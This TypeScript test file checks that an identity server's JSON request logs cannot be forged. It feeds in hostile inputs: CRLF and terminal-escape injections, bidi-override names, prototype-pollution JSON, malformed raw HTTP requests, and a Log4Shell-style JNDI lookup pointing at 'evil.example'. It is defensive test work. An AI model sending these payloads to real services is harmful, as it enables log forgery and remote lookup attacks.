import { once } from 'node:events';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { authorized } from '../support/attack.ts';
import { sendForm } from '../support/forgery.ts';
import { createBrowser, createSend } from '../support/http-client.ts';
import { checkInvariants } from '../support/invariants.ts';
import { aParty } from '../support/newcomers.ts';
import { plainClient, type RelyingParty } from '../support/relying-party.ts';
import { listenTo } from '../support/said.ts';
import { startServer, type TestServer } from '../support/server.ts';

/** What breaks out of a line, a terminal, a JSON string, a viewer of logs, or a template. */
const BREAKS = [
  'a\r\n{"level":"info","msg":"request","route":"forged"}',
  'a\n2026-01-01 forged',
  'a\r\u001b[2J\u001b]0;owned\u0007',
  '","level":"error","forged":"yes',
  '\\u000a{"forged":true}\\',
  'a\u0085b\u2028{"forged":1}\u2029',
  '\u202egnp.exe\u2066',
  '%0d%0aforged:%201',
  '$\u007bjndi:ldap://evil.example/a}',
  '{"a":{"__proto__":{"level":"error"}}}',
  `forged${'x'.repeat(3_000)}`,
];
const ALLOWED = new Set([
  'level',
  'time',
  'requestId',
  'method',
  'route',
  'status',
  'ms',
  'clientId',
  'errorCode',
  'msg',
  'fault',
]);

describe('case 53: what people and programs send tries to forge lines of the log', () => {
  let server: TestServer;
  let party: RelyingParty;
  let said: ReturnType<typeof listenTo>;
  let origin = '';
  let via: Record<string, string>;
  let sent = 0;
  beforeAll(async () => {
    server = await startServer({ settings: { TRUSTED_PROXY: '127.0.0.1' } });
    const other = await server.another({ LOG_LEVEL: 'info' });
    origin = other.origin;
    via = { [server.issuer]: origin };
    said = listenTo(other.child);
    party = await plainClient(server.issuer, server.client('sandbox-confidential'), { via });
  });
  afterAll(() => server.end());

  const counting = () => {
    const plain = createSend({ via });
    return createBrowser({
      send: async (url, sending) => {
        const reply = await plain(url, sending);
        // What Node itself refuses (headers of more than 16 KiB) never becomes a request.
        if (reply.status !== 431) sent += 1;
        return reply;
      },
    });
  };
  const header = (text: string): string => text.replace(/[^\t\x20-\x7e\x80-\xff]/g, ' ');
  /** The lines of requests since there were so many; waits until all of them are written. */
  async function requestLines(since: number, count: number): Promise<Record<string, unknown>[]> {
    const lines = () => said.lines.slice(since).filter((line) => line.includes('"msg":"request"'));
    await expect.poll(() => lines().length, { timeout: 10_000 }).toBeGreaterThanOrEqual(count);
    return lines().map((line) => JSON.parse(line) as Record<string, unknown>);
  }

  test('in identifiers, passwords, parameters, paths, agents, request ids, client ids and names', async () => {
    await expect.poll(() => said.lines.length, { timeout: 10_000 }).toBeGreaterThan(0);
    await new Promise((resolve) => setTimeout(resolve, 500));
    const from = said.lines.length;
    sent = 0;
    const browser = counting();
    const started = await party.begin();
    const page = await browser.open(started.url);
    const password = await page.submit({ identifier: '097090000001' });
    for (const text of BREAKS) {
      const agent = { 'user-agent': header(text), 'accept-language': header(text), referer: header(text) };
      const fields = { origin: server.issuer, ...agent };
      await sendForm(browser, page, '/identifier', { identifier: text }, fields);
      await sendForm(browser, password, '/password', { identifier: text, password: text }, fields);
      const query = new URLSearchParams({
        client_id: text,
        redirect_uri: text,
        state: text,
        scope: text,
        response_type: text,
      });
      await browser.send(`${server.issuer}/authorize?${query}`, { headers: agent });
      await browser.send(`${server.issuer}/${encodeURIComponent(text.slice(0, 500))}?${query}`, { headers: agent });
      await browser.send(`${server.issuer}/interaction/${encodeURIComponent(text.slice(0, 500))}`);
      await browser.send(
        `${server.issuer}/account/return?state=${encodeURIComponent(text)}&error=${encodeURIComponent(text)}`,
      );
      await browser.send(`${server.issuer}/help?lang=${encodeURIComponent(text)}`, {
        headers: { cookie: header(`locale=${text}; senid=${text}`).slice(0, 2_000) },
      });
      const basic = Buffer.from(`${encodeURIComponent(text)}:x`).toString('base64');
      const headers = {
        authorization: `Basic ${basic}`,
        'content-type': 'application/x-www-form-urlencoded',
        'x-request-id': header(text),
        'x-forwarded-for': header(text),
        forwarded: header(text),
      };
      await browser.send(`${server.issuer}/token`, {
        method: 'POST',
        headers,
        body: `grant_type=${encodeURIComponent(text)}&client_id=${encodeURIComponent(text)}`,
      });
    }
    const lines = await requestLines(from, sent);
    expect(lines).toHaveLength(sent);
  });

  test('in the name of a client, once somebody has registered it', async () => {
    // A name that turns the direction of reading is not registered at all.
    const turned = '\u202egnp\u2066';
    await expect(aParty(server, 'breaks-reading', {}, { vi: turned, en: turned })).rejects.toThrow();
    const quotes = ['"},{"forged":"yes', '$\u007bjndi:ldap://x}', '\\u000aforged'];
    for (const [index, name] of quotes.entries()) {
      const config = await aParty(server, `breaks-${index}`, {}, { vi: name, en: name });
      const rp = await plainClient(server.issuer, config, { via });
      const { callback } = await authorized(rp, server.claimant('level-1'), {}, { browser: counting() });
      expect(callback).toContain('code=');
    }
  });

  test('in the request line and headers themselves, byte by byte', async () => {
    const { port, hostname } = new URL(origin);
    const host = new URL(server.issuer).host;
    for (const raw of [
      `GET /a\r\n\r\nforged HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      `GET /\u001b[31mred HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      `FORGED{"level":"error"} / HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: a\rb\nforged\r\n\r\n`,
      `GET /%0a%0d{"forged":1} HTTP/1.1\r\nHost: ${host}\nforged: 1\r\nConnection: close\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: ${host}"\n{"forged":1}\r\nConnection: close\r\n\r\n`,
    ]) {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => {});
      socket.resume();
      socket.end(raw, 'latin1');
      await once(socket, 'close');
    }
  });

  test('every line is one JSON object of known members, and none is forged', async () => {
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(said.lines.length).toBeGreaterThan(80);
    for (const line of said.lines) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: their absence is what is tested.
      expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/);
      const entry = JSON.parse(line) as Record<string, unknown>;
      expect(['info', 'warn', 'error']).toContain(entry.level);
      expect(Number.isNaN(Date.parse(String(entry.time)))).toBe(false);
      if (entry.msg !== 'request') continue;
      expect(Object.keys(entry).filter((key) => !ALLOWED.has(key))).toEqual([]);
      expect(entry.route).not.toContain('forged');
      expect(entry.requestId).toMatch(/^[\w-]{8,64}$/);
    }
    expect(said.lines.filter((line) => line.startsWith('{"forged'))).toEqual([]);
  });

  test('and nothing is broken afterwards', async () => {
    await checkInvariants(server.database, server.app);
  });
});
